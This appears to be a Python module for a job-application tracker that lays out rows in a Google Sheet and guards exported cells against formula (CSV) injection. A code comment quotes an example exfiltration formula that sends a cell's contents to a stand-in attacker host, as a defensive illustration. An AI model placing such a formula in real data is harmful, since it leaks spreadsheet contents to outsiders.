"""The Google Sheet's layout: one row per application, the app's own columns only."""

from __future__ import annotations

from datetime import datetime

from tracker.ghosting import DEFAULT_GHOSTING_DAYS, silence
from tracker.models import Application

# The first six are the original columns, in their order; later ones are only ever added at the end.
HEADER = (
    "Company", "Job title", "Status", "Applied", "Last update", "Source email link",
    "Tags", "Notes", "Ghosted",
)  # fmt: skip
ORIGINAL_COLUMNS = 6
FIRST_DATA_ROW = 2
LAST_COLUMN = "I"


def gmail_link(message_id: str | None) -> str:
    """A link that opens the message in the user's Gmail."""
    return f"https://mail.google.com/mail/u/0/#all/{message_id}" if message_id else ""


def _day(moment: datetime | None) -> str:
    return moment.date().isoformat() if moment else ""


def ghosted_cell(application: Application, now: datetime | None, ghosting_days: int) -> str:
    """'no reply since 2026-09-12' while the application is ghosted at `now` (written at each sync;
    the fetch marks a row changed the day its application becomes ghosted); '' otherwise."""
    quiet = silence(application, now, ghosting_days) if now is not None else None
    return f"no reply since {_day(quiet.since)}" if quiet else ""


def row_values(
    application: Application,
    link=gmail_link,
    now: datetime | None = None,
    ghosting_days: int = DEFAULT_GHOSTING_DAYS,
) -> list[str]:
    """The cells of an application's row, in HEADER order; no ghosting without a `now`."""
    return [
        application.company,
        application.job_title or "",
        application.status.value,
        _day(application.applied_at),
        _day(application.updated_at),
        link(application.last_message_id),
        ", ".join(application.tags),
        application.notes,
        ghosted_cell(application, now, ghosting_days),
    ]


def quoted_tab(sheet_title: str) -> str:
    """A tab title as an A1 range names it: quoted, an apostrophe doubled ("Bob's" -> 'Bob''s')."""
    return "'" + sheet_title.replace("'", "''") + "'"


def row_range(row_number: int, sheet_title: str) -> str:
    """The A1 range of one row of the app's columns."""
    return f"{quoted_tab(sheet_title)}!A{row_number}:{LAST_COLUMN}{row_number}"


# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a company named
# =HYPERLINK("https://evil.example?"&A1) in an email would run when a CSV export is opened.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_in_a_spreadsheet(cell: str) -> str:
    """The cell, with a leading ' when a spreadsheet would read it as a formula (shown as text)."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
